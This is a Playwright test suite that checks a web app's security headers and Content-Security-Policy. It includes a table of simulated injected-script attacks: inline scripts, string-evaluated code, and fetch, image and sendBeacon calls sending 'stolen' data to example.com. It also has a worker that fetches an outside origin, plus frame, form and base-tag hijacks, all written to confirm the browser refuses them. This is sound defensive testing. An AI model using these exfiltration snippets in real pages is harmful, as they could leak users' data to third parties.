/**
 * The page's headers and its Content-Security-Policy: they are sent, they refuse what they should, and the suite notices.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { test as base } from "@playwright/test";
import { CONTENT_SECURITY_POLICY, META_POLICY } from "../../www/scripts/headers.mjs";
import { serveFolder } from "../../www/scripts/serve-folder.mjs";
import { expect, expectInnocent, openPage, test, watch } from "./page.js";

test("every file is sent with the headers", async ({ request }) => {
  const page = await request.get("./");
  const [script] = /assets\/index-[^"]+\.js/.exec(await page.text()) ?? [];
  for (const [path, caching] of [
    ["./", "no-cache"],
    ["adapters/index.json", "no-cache"],
    ["icon.svg", "no-cache"],
    [script ?? "", "public, max-age=31536000, immutable"],
  ] as const) {
    const headers = (await request.get(path)).headers();
    expect(headers, path).toMatchObject({
      "content-security-policy": CONTENT_SECURITY_POLICY,
      "x-content-type-options": "nosniff",
      "x-frame-options": "DENY",
      "referrer-policy": "no-referrer",
      "cross-origin-opener-policy": "same-origin",
      "cross-origin-resource-policy": "same-origin",
      "cache-control": caching,
    });
    const powers = headers["permissions-policy"];
    expect(powers, path).toContain("camera=(self), microphone=(self)");
    expect(powers, path).toContain("geolocation=()");
  }
  expect(await page.text()).toContain(META_POLICY.replaceAll("'", "&#39;").slice(0, 12));
});

/** What an injected script would try, and what it is refused by. */
const ATTACKS: Record<string, [attack: () => unknown, refusedBy: RegExp]> = {
  "an inline script": [
    () => {
      const script = document.createElement("script");
      script.append("window.injected = 1");
      document.body.append(script);
    },
    /script-src|require-trusted-types|TrustedScript/,
  ],
  "HTML as a string": [
    () => {
      document.body.innerHTML = "<img src=x>";
    },
    /require-trusted-types-for/,
  ],
  "code as a string": [
    () => setTimeout("window.injected = 1"),
    /require-trusted-types-for|script-src/,
  ],
  "an inline style": [() => document.body.setAttribute("style", "color: red"), /style-src/],
  "a request to another origin": [
    () => fetch("https://example.com/?stolen").catch(() => {}),
    /connect-src/,
  ],
  "an image of another origin": [
    () => {
      new Image().src = "https://example.com/?stolen";
    },
    /img-src/,
  ],
  "a beacon": [() => navigator.sendBeacon("https://example.com/", "stolen"), /connect-src/],
  "a worker from a blob": [
    () => new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))),
    /worker-src|require-trusted-types-for/,
  ],
  "a worker of another origin": [
    () => new Worker("https://example.com/worker.js"),
    /worker-src|require-trusted-types-for/,
  ],
  "another Trusted Types policy": [
    () => {
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): unknown };
      };
      trustedTypes.createPolicy("mine", { createHTML: (html: string) => html });
    },
    /trusted-types/,
  ],
  "a frame": [
    () => {
      const frame = document.createElement("iframe");
      frame.src = "https://example.com/";
      document.body.append(frame);
    },
    /frame-src/,
  ],
  "a form": [
    () => {
      const form = document.createElement("form");
      form.action = "https://example.com/";
      document.body.append(form);
      form.submit();
    },
    /form-action/,
  ],
  "another base": [
    () => {
      const other = document.createElement("base");
      other.href = "https://example.com/";
      document.head.append(other);
    },
    /base-uri/,
  ],
};

base(
  "what an injected script would try is refused, and the suite fails on it",
  { tag: "@core" },
  async ({ page, baseURL }) => {
    const watched = await watch(page, new URL(baseURL ?? "").origin);
    await openPage(page);
    for (const [name, [attack, refusedBy]] of Object.entries(ATTACKS)) {
      watched.violations.length = 0;
      watched.foreign.length = 0;
      watched.errors.length = 0;
      expectInnocent(watched);
      await page.evaluate(attack).catch(() => {});
      await expect.poll(() => watched.violations.join("\n"), name).toMatch(refusedBy);
      expect(() => expectInnocent(watched), name).toThrow();
      expect(await page.evaluate("window.injected"), name).toBeUndefined();
    }
  },
);

base(
  "a request of a worker to another origin is refused, and the suite fails on it",
  { tag: "@core" },
  async ({ page }) => {
    const folder = mkdtempSync(join(tmpdir(), "graftlet-worker-"));
    mkdirSync(join(folder, "assets"));
    writeFileSync(join(folder, "index.html"), "<!doctype html><link rel=icon href=icon.svg>");
    writeFileSync(join(folder, "icon.svg"), `<svg xmlns="http://www.w3.org/2000/svg"/>`);
    const attack = `fetch("https://example.com/?stolen").catch(() => {});`;
    writeFileSync(join(folder, "assets/attack.worker-1.js"), attack);
    const server = await serveFolder(folder);
    const { port } = server.address() as AddressInfo;
    const url = `http://127.0.0.1:${port}/`;
    const watched = await watch(page, new URL(url).origin);
    await page.goto(url);
    expectInnocent(watched);
    await page.evaluate(() => {
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): unknown };
      };
      trustedTypes.createPolicy("default", { createScriptURL: (url: string) => url });
      Object.assign(window, { worker: new Worker("assets/attack.worker-1.js") });
    });
    await expect.poll(() => watched.violations.join("\n")).toMatch(/connect-src/);
    expect(() => expectInnocent(watched)).toThrow();
    server.close();
    server.closeAllConnections();
    rmSync(folder, { recursive: true });
  },
);

base("the page cannot be framed", async ({ page, baseURL, request }) => {
  const { "content-security-policy": policy } = (await request.get("./")).headers();
  expect(policy).toContain("frame-ancestors 'none'");
  await page.goto("about:blank");
  await page.setContent(`<iframe src="${baseURL}"></iframe>`);
  await expect.poll(() => page.frames().at(1)?.url()).toContain("chrome-error:");
});
